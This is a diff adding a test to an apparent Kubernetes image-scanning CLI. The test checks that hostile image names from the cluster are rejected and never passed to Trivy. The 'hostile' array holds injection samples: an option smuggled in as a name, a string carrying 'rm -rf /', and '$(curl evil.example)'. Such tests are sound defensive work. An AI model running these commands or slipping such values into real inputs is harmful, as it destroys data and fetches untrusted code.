@@ -277,6 +277,37 @@ describe('shipshape cluster', () => {
     }
   });
 
+  test('hostile image names from the cluster are never passed to Trivy; each is an error, the rest is scanned', async () => {
+    const hostile = ['--output=/tmp/owned', 'nginx:1.27; rm -rf /', '$(curl evil.example)', 'nginx\n:1', 'registry.example/app with space:1'];
+    const base = generatePods({ count: 4, distinctImages: 2, namespaces: ['shop'], seed: 5 });
+    const evil = hostile.map((image, i) => {
+      const pod = structuredClone(base[0]!);
+      pod.metadata = { ...pod.metadata, name: `evil-${i}`, uid: `00000000-0000-4000-8000-00000000000${i}` };
+      pod.spec!.containers = [{ ...pod.spec!.containers![0]!, image }];
+      pod.status = { ...pod.status, containerStatuses: [] };
+      return pod;
+    });
+    const hostileServer = await startApiServer({ pods: [...base, ...evil] });
+    const log = standInLog();
+    try {
+      const run = await runCli(['cluster', '--kubeconfig', writeKubeconfig(hostileServer), '--trivy', STAND_IN, '--state', path.join(dir, 'state.json'), '--format', 'json']);
+      assert.equal(run.code, 0, run.stderr);
+      const report = JSON.parse(run.stdout) as { images: { reference: string; vulnerabilities?: object }[]; errors: { image?: string; message: string }[] };
+      for (const image of hostile) {
+        const error = report.errors.find((e) => e.image === image);
+        assert.ok(error, `an error for ${JSON.stringify(image)}`);
+        assert.match(error.message, /is not a valid image reference: not scanned/);
+      }
+      assert.ok(report.images.some((i) => i.vulnerabilities), 'the others are scanned');
+      const argv = imageScans(log.invocations()).flatMap((i) => i.argv);
+      assert.ok(argv.length > 0);
+      for (const image of hostile) assert.ok(!argv.includes(image), `${JSON.stringify(image)} never reached a process`);
+    } finally {
+      log.restore();
+      await hostileServer.stop();
+    }
+  });
+
   test('no cluster, bad arguments: exit 2 with the reason', async () => {
     const gone = await runCli(['cluster', '--kubeconfig', path.join(dir, 'missing.yaml')]);
     assert.equal(gone.code, 2);
